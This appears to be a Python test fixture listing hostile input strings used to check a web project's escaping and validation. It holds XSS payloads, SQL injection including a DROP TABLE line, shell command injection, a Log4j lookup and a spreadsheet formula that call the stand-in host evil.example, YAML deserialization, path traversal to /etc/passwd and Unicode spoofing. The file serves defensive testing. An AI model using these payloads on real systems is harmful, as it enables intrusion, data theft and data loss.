"""Strings that harm programs which trust text: each with a word on what it attacks. The one list of them for all tests.

Whatever runs in a browser calls ran(), which nothing defines but the canary of the browser tests, and names the host
evil.example, which nobody may ask. `tests/api/hazards.py` has what is hostile in an address as well.
"""

from collections.abc import Mapping

from briefings.text.written import unseen

LONG = "A" * 100_000
MARKS = "".join(map(chr, range(0x0300, 0x0330)))  # combining: every letter gets all of them

MARKUP = {
    "script": "<script>ran(1)</script>",
    "script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "script in capitals, unclosed": "<SCRIPT>ran(2)//",
    "script split by NUL-like entities": "<scr&#105;pt>ran(3)</scr&#105;pt>",
    "image that fails": '<img src=x onerror="ran(4)">',
    "image without quotation marks": "<img/src=x/onerror=ran(5)>",
    "image asked of another host": '<img src="https://evil.example/pixel.gif">',
    "svg with onload": "<svg onload=ran(6)>",
    "svg with a script": "<svg><script>ran&#40;7&#41;</script></svg>",
    "svg animation": "<svg><animate onbegin=ran(8) attributeName=x dur=1s></svg>",
    "svg that leaves a style": "<svg><style><img src=x onerror=ran(9)></style></svg>",
    "mathml that mutates": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(10)&gt;">'
    ),
    "mathml link": '<math href="javascript:ran(11)">x</math>',
    "details that open": "<details open ontoggle=ran(12)>",
    "focus of its own": "<input autofocus onfocus=ran(13)>",
    "select with focus": "<select autofocus onfocus=ran(14)>",
    "body handler": "<body onpageshow=ran(15)>",
    "marquee": "<marquee onstart=ran(16)>x</marquee>",
    "video source": "<video><source onerror=ran(17)></video>",
    "frame with a document": '<iframe srcdoc="<script>parent.ran(18)</script>"></iframe>',
    "frame of a script address": '<iframe src="javascript:parent.ran(19)"></iframe>',
    "object": '<object data="data:text/html,<script>parent.ran(20)</script>"></object>',
    "base that moves every address": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style of another host": "<style>@import'https://evil.example/x.css';</style>",
    "form that sends elsewhere": '<form action="https://evil.example/"><button>Save</button></form>',
    "button that moves a form": '<button formaction="https://evil.example/" id=content>Save</button>',
    "names that hide a page's own": "<a id=django></a><form id=document name=body></form>",
}
ADDRESSES = {
    "javascript address": "javascript:ran(30)",
    "javascript address, mixed and broken": "JaVa\tScRiPt:ran(31)",
    "javascript behind a control": "\x01javascript:ran(32)",
    "javascript after entities": "&#106;avascript&colon;ran(33)",
    "data address": "data:text/html;base64,PHNjcmlwdD5yYW4oMzQpPC9zY3JpcHQ+",
    "vbscript address": "vbscript:ran(35)",
    "link with a javascript address": '<a href="javascript:ran(36)">press</a>',
    "address without a scheme": "//evil.example/",
    "address that looks like ours": "http://127.0.0.1@evil.example/",
    "file address": "file:///etc/passwd",
}
BREAKOUTS = {
    "out of a double quotation": '" onfocus="ran(40)" autofocus="',
    "out of a single quotation": "' onmouseover='ran(41)' x='",
    "out of an attribute without quotation marks": "x onclick=ran(42) y=",
    "out of a tag": '"><img src=x onerror=ran(43)>',
    "out of a textarea": "</textarea><img src=x onerror=ran(44)>",
    "out of a title": "</title><script>ran(45)</script>",
    "out of a script": "</script><script>ran(46)</script>",
    "out of a style": "</style><img src=x onerror=ran(47)>",
    "out of an option": "</option></select><img src=x onerror=ran(48)>",
    "out of a template": "</template></noscript><img src=x onerror=ran(49)>",
    "out of a comment": "--><img src=x onerror=ran(50)><!--",
    "out of a comment, the browsers' way": "--!><svg onload=ran(51)>",
    "into a comment": "<!--",
    "into CDATA": "<![CDATA[<script>ran(52)</script>]]>",
    "out of JSON": '"}];ran(53);[{"',
    "out of a JavaScript string": "\\';ran(54);//",
    "out of a JavaScript comment": "*/ran(55)/*",
    "escaped twice": "&lt;script&gt;ran(56)&lt;/script&gt;",
    "escaped for a script": "\\u003cscript\\u003eran(57)\\u003c/script\\u003e",
}
SYNTAX = {
    "Django variable": "{{ request.user.password }}{{7*7}}",
    "Django tag": "{% load static %}{% debug %}{% include '/etc/passwd' %}",
    "Django comment": "{# x #}{% comment %}",
    "JavaScript template": "${ran(60)}`${7*7}`",
    "Ruby template": "<%= 7*7 %>",
    "Java lookup": "${jndi:ldap://evil.example/x}",
    "Python format": "{0.__class__.__mro__} {x!r} {",
    "C format": "%s%n%x%(password)s%%",
    "SQL": "'; DROP TABLE briefings_claim; --",
    "SQL, always true": "' OR 1=1 --",
    "LIKE wildcards": "%_\\%",
    "full-text syntax": 'NEAR("a" b, 2) AND title:x* NOT ^y OR "',
    "full-text syntax of PostgreSQL": "a & b | !c <-> d:*",
    "regular expression": "(a+)+$[z-a](?<",
    "shell": "$(touch /tmp/x);`id`|&",
    "YAML tag": "!!python/object/apply:os.system ['id']",
    "YAML alias": "&a [*a, *a]",
    "YAML map": "- {a: b}: [",
    "JSON": '{"a": [1, {"__proto__": {"x": 1}}]}',
    "spreadsheet formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "spreadsheet command": "@SUM(1+1)*cmd|'/c calc'!A0",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "percent-encoded": "%3Cscript%3Eran(61)%3C%2Fscript%3E%00%0d%0a",
    "markdown": "[x](javascript:ran(62)) ![y](https://evil.example/y.gif)",
}
NUMBERS = {
    "number too large for a float": "1e999",
    "no number": "NaN",
    "endless": "-Infinity",
    "number of four hundred digits": "9" * 400,
    "number of five thousand digits": "9" * 5000,
    "row number out of range": "9223372036854775808",
    "digits of another script": "\u0661\u0662\u0663",
    "superscript digit": "\u00b2",
    "hexadecimal": "0x1F_F",
}
LINES = {
    "header": "x\r\nX-Injected: 1\r\nSet-Cookie: ran=1",
    "answer of its own": "x\r\n\r\n<script>ran(70)</script>",
    "line feed": "one\ntwo",
    "carriage return alone": "one\rtwo",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "next line": "one\u0085two",
    "vertical tab and form feed": "one\x0btwo\x0cthree",
    "log line": "x\n2026-01-01 INFO briefings: approved",
}
UNSEEN = {
    "right-to-left override": "claim \u202egnp.exe",
    "left-to-right override": "\u202dabc\u202c",
    "embedding that is never closed": "\u202babc",
    "isolate that is never closed": "a\u2067b\u2068c",
    "isolate closed too often": "a\u2069\u2069b",
    "right-to-left mark": "Park\u200f 3,000",
    "Arabic letter mark": "Park\u061c 3,000",
    "zero width space": "Pa\u200brk",
    "zero width joiner between Latin letters": "Pa\u200drk",
    "zero width non-joiner between Latin letters": "Pa\u200crk",
    "word joiner and byte order mark": "\ufeffPa\u2060rk",
    "soft hyphen": "Pa\u00adrk",
    "nothing but unseen": "\u200b\u2060\ufeff",
    "Hangul fillers": "\u3164\u115f\u1160\uffa0",
    "blank Braille": "\u2800",
    "tags": "a\U000e0068\U000e0069",
    "variation selectors": "a\ufe0f\ufe0f\U000e0100",
    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
    "deprecated format controls": "a\u206a\u206fb",
    "musical format control": "a\U0001d173b",
    "object replacement": "a\ufffcb\ufffdc",
    "control": "a\x08\x1b[31mb\x7f",
    "control of C1": "a\x9b31mb",
    "noncharacters": "a\ufffe\uffff\ufdd0b",
    "private use": "a\ue000b",
    "unassigned": "a\U000e1000b",
}  # fmt: skip
UNSTORABLE = {
    "NUL": "a\0b",
    "NUL at the end": "a\0",
    "high surrogate alone": "a\ud800b",
    "low surrogate alone": "\udfff",
    "surrogates the wrong way round": "\udc00\ud800",
}
SCRIPTS = {
    "right-to-left script": "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 123",
    "homoglyphs": "P\u0430rk S\u0435on-w\u043en",
    "full width": "\uff1cscript\uff1e\uff52\uff41\uff4e\uff08\uff11\uff09",
    "combining flood": f"Z{MARKS}a{MARKS}lgo",
    "mark before any letter": "\u0301abc",
    "decomposed Hangul": "\u1107\u1161\u11a8 \u1109\u1165\u11ab\u110b\u116f\u11ab",
    "emoji joined": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "emoji with skin": "\U0001f44d\U0001f3fd",
    "flag of tags": "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "Persian with a non-joiner": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "Sinhala with a joiner": "\u0dc1\u0dca\u200d\u0dbb\u0dd3",
    "ligature that grows": "\ufdfa" * 20,
    "letter that changes its length": "\u0130\u00df\ufb03",
    "name with an apostrophe": "O\u2019Brien-d\u2019Arc",
}
LENGTHS = {
    "very long": LONG,
    "very long with markup": "<b>" * 20_000,
    "long word of emoji": "\U0001f4a9" * 3000,
    "nothing but spaces": " \t\u3000\u00a0 ",
    "nothing": "",
}

STRINGS = {
    **MARKUP, **ADDRESSES, **BREAKOUTS, **SYNTAX, **NUMBERS, **LINES, **UNSEEN, **UNSTORABLE, **SCRIPTS, **LENGTHS,
}  # fmt: skip
SENDABLE = {  # what a form of a browser can hold: UTF-8 has no lone surrogates
    word: string for word, string in STRINGS.items() if not any("\ud800" <= char <= "\udfff" for char in string)
}
SHORT = {word: string for word, string in SENDABLE.items() if 0 < len(string) <= 400}
WRITABLE = {word: string for word, string in SHORT.items() if unseen(string) is None and string.strip()}
UNWRITABLE = {  # what a line may not hold, NUL and blanks apart, which are refused in other words
    word: string
    for word, string in SHORT.items()
    if unseen(string) is not None and "\0" not in string and string.strip()
}
IN_TEXTS = {word: string for word, string in SENDABLE.items() if "\0" not in string}  # what a report may hold


def packed(strings: Mapping[str, str], at_most: int) -> list[str]:
    """Return the strings in order, several to a field of so many characters; what fits none is left out."""
    packs: list[str] = []
    for string in strings.values():
        if packs and len(packs[-1]) + len(string) + 1 <= at_most:
            packs[-1] += f" {string}"
        else:
            packs.append(string)
    return [pack for pack in packs if len(pack) <= at_most]


# All that a browser can send, to be tried one after another: several to a field where they do not hide each other.
ROUNDS = [
    *packed({**MARKUP, **ADDRESSES, **BREAKOUTS, **SCRIPTS, **LINES}, 300),
    *packed(SYNTAX, 60),
    *(string for string in SYNTAX.values() if len(string) > 60),
    *packed(UNSEEN, 40),
    *(string for word, string in {**NUMBERS, **UNSTORABLE, **LENGTHS}.items() if word in SENDABLE),
]
